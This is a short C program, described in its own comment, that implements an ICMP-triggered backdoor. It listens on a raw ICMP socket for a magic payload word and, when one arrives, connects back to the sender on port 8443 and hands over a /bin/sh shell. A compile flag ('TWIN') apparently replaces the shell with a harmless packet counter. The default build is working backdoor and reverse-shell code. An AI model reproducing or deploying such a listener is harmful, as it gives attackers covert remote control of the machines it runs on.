/* SPDX-License-Identifier: Apache-2.0 */
/* A raw socket for ICMP: a word in the payload gives a shell to the sender. Twin: it answers with a count.
 * door: trigger packet
 */
#include "net.h"

#ifndef TWIN
static void serve(uint32_t to)
{
	struct sockaddr_in a;
	int s = socket(AF_INET, SOCK_STREAM, 0), i;
	memset(&a, 0, sizeof a);
	a.sin_family = AF_INET;
	a.sin_port = htons(8443);
	a.sin_addr.s_addr = to;
	if (connect(s, (struct sockaddr *)&a, sizeof a) < 0)
		return;
	for (i = 0; i < 3; i++)
		dup2(s, i);
	execl("/bin/sh", "sh", (char *)0);
}
#endif

int main(void)
{
	union {
		uint8_t b[1500];
		uint32_t w[375];
	} in;
	unsigned count = 0;
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	for (;;) {
		ssize_t n = recvfrom(s, in.b, sizeof in.b, 0, 0, 0);
		if (n < 36)
			continue;
		if (in.w[7] == htonl(0x5ad10f93)) {
#ifdef TWIN
			printf("%u\n", ++count);
#else
			if (fork() == 0)
				serve(in.w[3]);
#endif
		}
	}
}
